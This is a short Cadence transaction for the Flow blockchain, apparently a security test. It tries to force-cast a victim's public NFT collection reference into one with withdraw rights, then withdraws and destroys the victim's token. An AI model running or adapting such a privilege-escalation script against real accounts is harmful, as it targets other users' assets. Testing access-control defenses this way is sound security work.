import "NonFungibleToken"
import "Collectible"

/// Casts the public reference of `victim` into one that may withdraw.
transaction(victim: Address, id: UInt64) {
    prepare(thief: &Account) {
        let public = getAccount(victim).capabilities.borrow<&Collectible.Collection>(Collectible.CollectionPublicPath)!
        let stolen = public as! auth(NonFungibleToken.Withdraw) &Collectible.Collection
        destroy stolen.withdraw(withdrawID: id)
    }
}
